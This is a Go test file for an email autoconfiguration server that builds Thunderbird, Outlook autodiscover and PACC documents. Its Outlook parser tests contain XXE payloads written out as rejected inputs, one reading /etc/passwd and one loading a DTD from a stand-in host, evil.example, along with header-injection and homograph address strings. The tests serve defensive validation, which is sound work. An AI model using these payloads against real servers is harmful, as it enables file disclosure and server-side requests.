package autoconfig

import (
	"context"
	"encoding/json"
	"encoding/xml"
	"flag"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/updatecase/mobileconfig/profile"
	"github.com/updatecase/mobileconfig/server/fault"
	"github.com/updatecase/mobileconfig/server/settings"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// golden compares got with testdata/name; -update rewrites it.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	name = filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(name, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != string(want) {
		t.Errorf("%s: got\n%s\nwant\n%s", name, got, want)
	}
}

// domains are the domains that the documents describe.
var domains = map[string]settings.Domain{
	"usual": domain("example.com", "imap.example.com", "smtp.example.com", nil),
	"named": domain("example.com", "mail.example.net", "mail.example.net", func(d *settings.Domain) {
		d.DisplayName = `Müller & Söhne <Mail> "X"`
	}),
	"starttls": domain("xn--mller-kva.example", "imap.example.com:143/starttls", "smtp.example.com:587/starttls", func(d *settings.Domain) {
		d.Login = settings.LocalPartLogin
	}),
	"groupware": domain("example.com", "imap.example.com", "smtp.example.com", func(d *settings.Domain) {
		d.Service.Calendars = profile.DAVServer{Host: "cal.example.com", Port: 443}
		d.Service.Contacts = profile.DAVServer{Host: "card.example.com", Port: 8443}
	}),
	"given": domain("example.org", "imap.example.com", "smtp.example.com:2465", func(d *settings.Domain) { d.Login = settings.GivenLogin }),
}

func domain(name, imap, smtp string, change func(*settings.Domain)) settings.Domain {
	d := settings.Domain{Name: name}
	d.Service.Incoming, _ = profile.ParseIncoming(imap)
	d.Service.Outgoing, _ = profile.ParseOutgoing(smtp)
	if change != nil {
		change(&d)
	}
	return d
}

func address(t *testing.T, s string) profile.Address {
	t.Helper()
	a, err := profile.ParseAddress(s)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

// TestDocuments compares each document with its golden file, and checks that
// there is none if it couldn't be correct.
func TestDocuments(t *testing.T) {
	none := map[string]bool{"given.thunderbird.xml": true, "given.outlook.xml": true, "given.pacc.json": true, "starttls.pacc.json": true}
	for name, d := range domains {
		documents := map[string]func() ([]byte, error){
			"thunderbird.xml": func() ([]byte, error) { return Thunderbird(d) },
			"outlook.xml":     func() ([]byte, error) { return Outlook(d, address(t, "Jane.o'Neil&co@"+d.Name)) },
			"pacc.json":       func() ([]byte, error) { return PACC(d) },
		}
		for kind, write := range documents {
			file := name + "." + kind
			got, err := write()
			if none[file] {
				if !fault.Is(err, fault.NotFound) {
					t.Errorf("%s: %v, %s", file, err, got)
				}
				continue
			}
			if err != nil {
				t.Fatalf("%s: %v", file, err)
			}
			golden(t, file, got)
		}
	}
	for code, name := range map[int]string{UnknownAddress: "unknown", InvalidRequest: "invalid", OtherSchema: "schema"} {
		got, err := OutlookFault(code, time.Date(2026, 11, 27, 6, 40, 0, 0, time.UTC))
		if err != nil {
			t.Fatal(err)
		}
		golden(t, name+".outlook.xml", got)
	}
}

// The elements that the public schema of each format names, written down
// separately from the code that fills them.
type (
	mozillaServer struct {
		Type           string `xml:"type,attr"`
		Hostname       string `xml:"hostname"`
		Port           int    `xml:"port"`
		SocketType     string `xml:"socketType"`
		Authentication string `xml:"authentication"`
		Username       string `xml:"username"`
	}
	mozillaDAV struct {
		Type           string   `xml:"type,attr"`
		URL            string   `xml:"url"`
		ServerURL      string   `xml:"serverURL"`
		Authentication []string `xml:"authentication"`
		Username       string   `xml:"username"`
	}
	mozilla struct {
		XMLName     xml.Name   `xml:"clientConfig"`
		AddressBook mozillaDAV `xml:"addressBook"` // as of 2020
		Addressbook mozillaDAV `xml:"addressbook"` // draft -06
		Calendar    mozillaDAV `xml:"calendar"`
		Version     string     `xml:"version,attr"`
		Provider    struct {
			ID               string        `xml:"id,attr"`
			Domain           string        `xml:"domain"`
			DisplayName      string        `xml:"displayName"`
			DisplayShortName string        `xml:"displayShortName"`
			IncomingServer   mozillaServer `xml:"incomingServer"`
			OutgoingServer   mozillaServer `xml:"outgoingServer"`
		} `xml:"emailProvider"`
	}
	microsoftServer struct {
		Type, Server, LoginName, SSL, Encryption, SPA, AuthRequired string
		Port                                                        int
	}
	microsoft struct {
		XMLName  xml.Name `xml:"http://schemas.microsoft.com/exchange/autodiscover/responseschema/2006 Autodiscover"`
		Response struct {
			XMLName xml.Name `xml:"http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a Response"`
			User    struct{ DisplayName string }
			Account struct {
				AccountType, Action string
				Protocol            []microsoftServer
			}
		}
	}
)

// TestReadBack parses the documents with structs based on the formats' own
// specifications.
func TestReadBack(t *testing.T) {
	d := domains["named"]
	body, err := Thunderbird(d)
	var m mozilla
	if err != nil || xml.Unmarshal(body, &m) != nil {
		t.Fatalf("%v %s", err, body)
	}
	p := m.Provider
	if m.Version != "1.1" || p.ID != "example.com" || p.Domain != "example.com" || p.DisplayName != d.DisplayName || p.DisplayShortName != d.DisplayName {
		t.Errorf("%+v", m)
	}
	if want := (mozillaServer{"imap", "mail.example.net", 993, "SSL", "password-cleartext", "%EMAILADDRESS%"}); p.IncomingServer != want {
		t.Errorf("got %+v, want %+v", p.IncomingServer, want)
	}
	if want := (mozillaServer{"smtp", "mail.example.net", 465, "SSL", "password-cleartext", "%EMAILADDRESS%"}); p.OutgoingServer != want {
		t.Errorf("got %+v, want %+v", p.OutgoingServer, want)
	}
	body, err = Thunderbird(domains["groupware"])
	if err != nil || xml.Unmarshal(body, &m) != nil {
		t.Fatalf("%v %s", err, body)
	}
	both := []string{"basic", "http-basic"}
	contacts := mozillaDAV{"carddav", "https://card.example.com:8443/.well-known/carddav", "https://card.example.com:8443/.well-known/carddav", both, "%EMAILADDRESS%"}
	calendar := mozillaDAV{"caldav", "https://cal.example.com/.well-known/caldav", "https://cal.example.com/.well-known/caldav", both, "%EMAILADDRESS%"}
	if !reflect.DeepEqual(m.AddressBook, contacts) || !reflect.DeepEqual(m.Addressbook, contacts) || !reflect.DeepEqual(m.Calendar, calendar) {
		t.Errorf("%+v", m)
	}
	d = domains["starttls"]
	body, err = Outlook(d, address(t, "jane@müller.example"))
	var o microsoft
	if err != nil || xml.Unmarshal(body, &o) != nil {
		t.Fatalf("%v %s", err, body)
	}
	want := []microsoftServer{
		{"IMAP", "imap.example.com", "jane", "on", "TLS", "off", "on", 143},
		{"SMTP", "smtp.example.com", "jane", "on", "TLS", "off", "on", 587},
	}
	account := o.Response.Account
	if account.AccountType != "email" || account.Action != "settings" || !reflect.DeepEqual(account.Protocol, want) || o.Response.User.DisplayName != "jane@xn--mller-kva.example" {
		t.Errorf("%+v", o)
	}
}

// TestPython parses the golden files with another parser, and checks that
// nothing is in clear text and nothing is a password.
func TestPython(t *testing.T) {
	python, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("no python3")
	}
	const script = `
import glob, json, sys, xml.etree.ElementTree as tree
n = 0
for name in sorted(glob.glob("testdata/*.xml")):
    words = {}
    for e in tree.parse(name).iter():
        words.setdefault(e.tag.split("}")[-1], []).append(e.text)
    n += 1
    assert not set(k.lower() for k in words) & {"password", "passwd"}, name
    assert set(words.get("socketType", [])) <= {"SSL", "STARTTLS"}, name
    assert set(words.get("SSL", [])) <= {"on"}, name
    assert set(words.get("Encryption", [])) <= {"SSL", "TLS"}, name
for name in sorted(glob.glob("testdata/*.json")):
    d = json.load(open(name))
    n += 1
    assert set(d["protocols"]) == {"imap", "smtp", "submit"} | ({"caldav", "carddav"} if "groupware" in name else set()) and d["authentication"] == {"password": True}, name
print(n)
`
	out, err := exec.CommandContext(t.Context(), python, "-c", script).CombinedOutput()
	if got := strings.TrimSpace(string(out)); err != nil || got != "14" {
		t.Errorf("%v: got %s, want 14 files", err, got)
	}
}

func TestThunderbirdScan(t *testing.T) {
	for _, tt := range []struct{ domain, address, name, login, want string }{
		{"usual", "jane@example.com", "Jane Doe", "",
			`[1,[1,1],[0,"imap.example.com",993,3,1,"jane@example.com"],[[[0,"smtp.example.com",465,3,1,"jane@example.com"],["jane@example.com","Jane Doe"]]]]`},
		{"starttls", "jane@müller.example", "", "",
			`[1,[1,1],[0,"imap.example.com",143,2,1,"jane"],[[[0,"smtp.example.com",587,2,1,"jane"],["jane@xn--mller-kva.example","jane@xn--mller-kva.example"]]]]`},
		{"given", "jane@example.org", `J"]`, "j1",
			`[1,[1,1],[0,"imap.example.com",993,3,1,"j1"],[[[0,"smtp.example.com",2465,3,1,"j1"],["jane@example.org","J\"]"]]]]`},
	} {
		got, err := ThunderbirdScan(domains[tt.domain], address(t, tt.address), tt.name, tt.login)
		if err != nil || got != tt.want {
			t.Errorf("%s: %v, got %s, want %s", tt.address, err, got, tt.want)
		}
		var any []any
		if err := json.Unmarshal([]byte(got), &any); err != nil || len(any) != 4 {
			t.Errorf("%v: %s", err, got)
		}
	}
	if _, err := ThunderbirdScan(domains["usual"], address(t, "jäne@example.com"), "", ""); !fault.Is(err, fault.NotFound) {
		t.Errorf("an address beyond ASCII: %v", err)
	}
	if _, err := ThunderbirdScan(domains["given"], address(t, "jane@example.org"), "", ""); !fault.Is(err, fault.LoginNeeded) {
		t.Errorf("without a login: %v", err)
	}
}

const outlookRequest = `<?xml version="1.0" encoding="utf-8"?>
<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006">
<Request><EMailAddress> jane@example.com </EMailAddress><AcceptableResponseSchema>` + outlookSchema + `</AcceptableResponseSchema></Request>
</Autodiscover>`

func TestReadOutlook(t *testing.T) {
	wrap := func(inner string) string { return "<Autodiscover><Request>" + inner + "</Request></Autodiscover>" }
	const one = "<EMailAddress>jane@example.com</EMailAddress>"
	for request, want := range map[string]error{
		outlookRequest: nil,
		wrap(one):      nil,
		wrap(one + "<LegacyDN>x</LegacyDN><More><Deep>x</Deep></More>"):                                                                                      nil,
		wrap("<EMailAddress>jane@exam<!-- -->ple.com</EMailAddress>"):                                                                                        nil,
		wrap(one + "<AcceptableResponseSchema>http://schemas.microsoft.com/exchange/autodiscover/mobilesync/responseschema/2006</AcceptableResponseSchema>"): ErrSchema,

		"":                               ErrRequest,
		"{}":                             ErrRequest,
		wrap(""):                         ErrRequest,
		wrap(one + one):                  ErrRequest,
		wrap(one) + "<Autodiscover/>":    ErrRequest,
		"<Request>" + one + "</Request>": ErrRequest,
		"<Autodiscover>" + one + "</Autodiscover>": ErrRequest,
		wrap(one)[:60]:             ErrRequest,
		"<!DOCTYPE x>" + wrap(one): ErrRequest,
		`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>` + wrap(one):             ErrRequest,
		`<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>` + wrap(one): ErrRequest,
		wrap("<EMailAddress>&e;@example.com</EMailAddress>"):                             ErrRequest,
		`<?xml version="1.0" encoding="utf-16"?>` + wrap(one):                            ErrRequest,
		`<?php x?>` + wrap(one): ErrRequest,
		wrap("<EMailAddress>jane@exam<?xml?>ple.com</EMailAddress>"):                      ErrRequest,
		wrap(one + strings.Repeat("<a>", 9) + strings.Repeat("</a>", 9)):                  ErrRequest,
		wrap(one + "<b>" + strings.Repeat("<a/>", 120) + "</b>"):                          ErrRequest,
		wrap(one + "<b>" + strings.Repeat("x", MaxOutlook) + "</b>"):                      ErrRequest,
		wrap("<EMailAddress>\xff@example.com</EMailAddress>"):                             ErrRequest,
		wrap("<EMailAddress>\x00@example.com</EMailAddress>"):                             ErrRequest,
		strings.Replace(wrap(one), "<EMailAddress>", `<EMailAddress x="&lt;" x='">'>`, 1): nil,
	} {
		got, err := ReadOutlook([]byte(request))
		if err != want {
			t.Errorf("%.200q: got %v, want %v", request, err, want)
		}
		if err == nil && got != "jane@example.com" || err != nil && got != "" {
			t.Errorf("%.200q: read %q", request, got)
		}
	}
}

func FuzzReadOutlook(f *testing.F) {
	f.Add(outlookRequest)
	f.Add(`<!DOCTYPE x [<!ENTITY e "x">]><Autodiscover><Request><EMailAddress>&e;</EMailAddress></Request></Autodiscover>`)
	f.Fuzz(func(t *testing.T, request string) {
		got, err := ReadOutlook([]byte(request))
		if err != nil {
			return
		}
		// A lenient parser must not find another meaning in the text: the
		// address is in one element.
		d := xml.NewDecoder(strings.NewReader(request))
		var n int
		for {
			token, err := d.Token()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("%q was read as %q: %v", request, got, err)
			}
			if s, ok := token.(xml.StartElement); ok && s.Name.Local == "Autodiscover" {
				n++
			}
			if _, ok := token.(xml.Directive); ok {
				t.Fatalf("a document type was taken: %q", request)
			}
		}
		if n == 0 {
			t.Fatalf("%q", request)
		}
	})
}

// A directory has the one domain, and counts lookups.
type directory struct{ asked []string }

func (d *directory) Domain(_ context.Context, name string) (settings.Domain, error) {
	d.asked = append(d.asked, name)
	if name != "example.com" {
		return settings.Domain{}, fault.New(fault.NotFound, "No.")
	}
	return domains["usual"], nil
}

func TestForHost(t *testing.T) {
	for host, found := range map[string]bool{
		"autoconfig.example.com":            true,
		"AutoConfig.Example.COM:443":        true,
		"example.com":                       true,
		"example.com:8080":                  true,
		"autoconfig.autoconfig.example.com": false,
		"ua-auto-config.example.com":        false,
		"mail.example.com":                  false,
		"autoconfig.example.com.":           false,
		"autoconfig.example.com.evil.test":  false,
		"autoconfig.":                       false,
		"":                                  false,
		"[::1]:80":                          false,
		"127.0.0.1":                         false,
		"exаmple.com":                       false, // Cyrillic а
		"ｅxample.com":                       false,
	} {
		d, err := ForHost(t.Context(), &directory{}, ThunderbirdHost, host)
		if (err == nil) != found || err != nil && !fault.Is(err, fault.NotFound) || found && d.Name != "example.com" {
			t.Errorf("%q: %v %v", host, d.Name, err)
		}
	}
}

func TestForAddress(t *testing.T) {
	from := &directory{}
	for _, bad := range []string{"", "jane", "@example.com", "jane@example.com\r\nX: y", "</string>@example.com", "ja\u202ene@example.com", "\u202ejane@example.com", "jane@exаmple.com", "jane@evil.example", "a@b@example.com", "jane@[127.0.0.1]"} {
		if _, _, err := ForAddress(t.Context(), from, bad); !fault.Is(err, fault.NotFound) || err.Error() != errNone().Error() {
			t.Errorf("%q: %v", bad, err)
		}
	}
	d, a, err := ForAddress(t.Context(), from, " Nobody@EXAMPLE.com ")
	if err != nil || d.Name != "example.com" || a.String() != "Nobody@example.com" {
		t.Errorf("%v %v %v", d.Name, a, err)
	}
}
